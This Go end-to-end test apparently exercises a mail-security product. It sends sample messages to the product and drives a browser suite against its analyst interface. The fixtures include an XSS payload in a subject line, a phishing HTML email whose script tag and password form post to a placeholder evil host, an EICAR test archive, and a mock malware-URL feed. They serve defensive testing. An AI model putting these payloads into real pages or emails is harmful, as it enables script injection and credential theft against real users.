package e2e

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"mailward/internal/testenv"
)

// TestBrowser seeds an installation through its SMTP port and hands it to the
// browser suite, which uses it as an analyst would. The suite is node's, since
// that is where Playwright and axe live; its output is this test's output.
func TestBrowser(t *testing.T) {
	t.Parallel()
	testenv.Require(t, "node", "chromium-headless-shell")
	hop := testenv.NextHop(t)
	good, refusing := testenv.NewFeeds(t), testenv.NewFeeds(t)
	good.File("urls", "# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter\r\n\"1\",\"\",\"http://kit.bad.example/login?id=1\",\"online\",\"\",\"malware_download\",\"elf,mozi\",\"https://urlhaus.abuse.ch/url/1/\",\"x\"\r\n"+
		"\"2\",\"\",\"http://198.51.100.7/x.sh\",\"online\",\"\",\"malware_download\",\"\",\"\",\"x\"\r\n")
	refusing.Trap("403")
	s := newServer(t, hop.Addr, fmt.Sprintf("intel: {feeds: [{name: urlhaus, type: urlhaus, url: %q, allow_private: true}, {name: misp, type: misp, url: %q, allow_private: true}]}\n", good.URL+"/files/urls", refusing.URL+"/misp"))
	s.editConf("relay: {domains: {", fmt.Sprintf("relay: {domains: {theirs.example: %q, ", hop.Addr))
	s.start()
	to := []string{"bob@ours.example"}
	for subject, msg := range map[string][]byte{
		"Quarterly report":                       text("Quarterly report", "Please find the numbers below."),
		"Invoice 4711":                           yaraOnly("Invoice 4711"),
		`"><img src=x onerror=alert(1)> invoice`: yaraOnly(`"><img src=x onerror=alert(1)> invoice`),
		"Your parcel":                            attachment("Your parcel", "parcel.zip", "application/zip", zipped(t, "parcel.com", eicar())),
		"Password expires today":                 htmlMail("Password expires today"),
		"Campaign 1":                             yaraOnly("Campaign 1"),
		"Campaign 2":                             yaraOnly("Campaign 2"),
		"Campaign 3":                             yaraOnly("Campaign 3"),
	} {
		rcpt := to
		if subject == "Invoice 4711" {
			rcpt = []string{"bob@ours.example", "carol@ours.example"}
		}
		if r := s.sendMail("mallory@sender.example", rcpt, msg); code(r) != 250 {
			t.Fatalf("%s: %q", subject, r)
		}
	}
	s.api("admin").itemBySubject("Your parcel")

	readScripts(t)
	cmd := exec.Command("npm", "run", "--silent", "e2e")
	cmd.Dir = filepath.Join("..", "webui")
	cmd.Env = append(os.Environ(), "BASE_URL=http://"+s.http, "ADMIN_EMAIL="+adminEmail, "ADMIN_PASSWORD="+adminPassword, "OUTSIDE_URL="+outside(t, s, hop))
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Run(); err != nil {
		t.Fatalf("browser suite: %v\n%s", err, out.String())
	}
	t.Log(tail(out.String(), 30))
}

// readScripts reads the browser tests: Go keeps the results of tests by the files
// that they look at, and sees none that node reads.
func readScripts(t *testing.T) {
	t.Helper()
	scripts, err := filepath.Glob("../webui/e2e/*.mjs")
	if err != nil || len(scripts) == 0 {
		t.Fatalf("no browser suite: %v", err)
	}
	for _, f := range scripts {
		if _, err := os.ReadFile(f); err != nil {
			t.Fatal(err)
		}
	}
}

// htmlMail is a form that asks for a password: harmless, and what our rule for
// credential harvesting looks for. It also tries what a preview must not do.
func htmlMail(subject string) []byte {
	return []byte("From: IT Support <it@sender.example>\r\nTo: bob@ours.example\r\nSubject: " + subject +
		"\r\nDate: Tue, 24 Nov 2026 10:00:00 +0000\r\nMessage-ID: <html@sender.example>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><h1>Your password expires today</h1>" +
		"<script>document.title='owned'</script><img src=\"http://tracker.example/p.gif\">\r\n" +
		"<p>Click <a href=\"http://login.evil.example/verify\">here</a> or sign in:</p>\r\n" +
		"<form action=\"http://login.evil.example/post\" method=\"post\"><input name=\"email\"><input type=\"password\" name=\"password\">" +
		"<input type=\"submit\" value=\"Sign in\"></form></body></html>\r\n")
}
